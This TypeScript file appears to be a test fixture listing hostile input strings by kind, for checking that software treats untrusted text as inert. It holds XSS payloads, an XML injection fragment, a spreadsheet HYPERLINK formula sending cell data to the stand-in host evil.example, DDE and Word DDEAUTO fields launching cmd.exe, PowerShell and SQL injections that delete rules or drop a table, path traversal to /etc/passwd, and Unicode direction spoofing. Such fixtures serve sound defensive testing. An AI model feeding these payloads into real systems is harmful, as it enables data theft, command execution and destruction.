/** Texts, by kind, that do harm if a program takes them for more than text. None contains a line break. */
export const hostileTexts = {
  markup: '<img src=x onerror="window.ran=1"><script>window.ran=1</script>',
  'an attribute’s end': '" autofocus onfocus="window.ran=1" x="',
  'the end of a script': '</script><svg onload=window.ran=1>',
  entities: '&lt;b&gt; &amp;amp; &#x202e;',
  XML: ']]></w:t><w:r><w:t>Approved &xxe;',
  'a link': '[click](javascript:window.ran=1) javascript:window.ran=1',
  'a placeholder of a letter': '{contact} {council} {{7*7}} %s',
  'a formula': '=HYPERLINK("http://evil.example?"&A1,"open")',
  'a formula of a lookalike': '＝cmd|" /C calc"!A0',
  'turned direction': 'Jo \u202egro.elpmaxe@hsram.oj\u202c \u2067x\u2069',
  'a field of Word': 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  PowerShell: '\u2019; Remove-TransportRule *; $(calc) `n',
  SQL: "'; drop table customers; --",
  'a path': '../../../etc/passwd\\..\\x.eml',
  escapes: '\u001b[31mred\u001b[0m \u0007bell',
  'no width': 'a\u200bb\ufeffc\u00ad',
} as const satisfies Record<string, string>

export const allHostile: readonly string[] = Object.values(hostileTexts)
